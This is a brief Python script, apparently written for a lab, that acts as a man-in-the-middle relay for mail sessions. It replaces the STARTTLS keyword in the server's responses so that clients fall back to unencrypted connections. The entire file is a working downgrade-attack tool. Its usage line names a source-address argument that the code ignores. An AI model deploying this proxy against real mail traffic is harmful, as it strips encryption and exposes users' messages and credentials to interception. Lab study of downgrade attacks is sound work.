#!/usr/bin/python3
"""A man in the middle for the lab: passes mail sessions on, but overwrites STARTTLS in what the server offers.

usage: strip.py LISTEN-ADDRESS PORT SERVER-ADDRESS [SOURCE-ADDRESS]
"""
import socket
import sys
import threading


def pump(source, sink, change):
    while data := source.recv(65536):
        sink.sendall(change(data))
    try:
        sink.shutdown(socket.SHUT_WR)
    except OSError:
        pass


def main():
    listen, port, server = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    gate = socket.create_server((listen, port))
    while True:
        client, _ = gate.accept()
        peer = socket.create_connection((server, port), 10)
        strip = lambda data: data.replace(b'STARTTLS', b'XXXXXXXA')
        threading.Thread(target=pump, args=(client, peer, lambda data: data), daemon=True).start()
        threading.Thread(target=pump, args=(peer, client, strip), daemon=True).start()


if __name__ == '__main__':
    main()
